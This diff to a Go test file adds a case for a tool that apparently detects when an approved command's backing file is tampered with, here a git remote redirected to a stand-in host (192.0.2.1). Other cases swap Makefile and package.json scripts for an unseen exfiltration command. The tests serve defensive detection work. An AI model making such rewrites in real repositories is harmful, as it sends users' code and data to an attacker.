@@ -30,6 +30,8 @@ func TestFindings10ApprovalOpen(t *testing.T) {
 			before: "git push origin main --tags\n", after: exfil + "\n"},
 		{name: "Makefile recipe rewritten", cmd: "make deploy", file: "Makefile",
 			before: "deploy:\n\tgit push origin main\n", after: "deploy:\n\t" + exfil + "\n"},
+		{name: "the remote rewritten", cmd: "git push origin main", file: ".git/config",
+			before: "[remote \"origin\"]\n\turl = https://github.example/me/repo.git\n", after: "[remote \"origin\"]\n\turl = https://192.0.2.1/x.git\n"},
 		{name: "package.json script rewritten", cmd: "npm run release", file: "package.json",
 			before: `{"name":"p","scripts":{"release":"git push origin main"}}`, after: `{"name":"p","scripts":{"release":"` + exfil + `"}}`},
 	} {
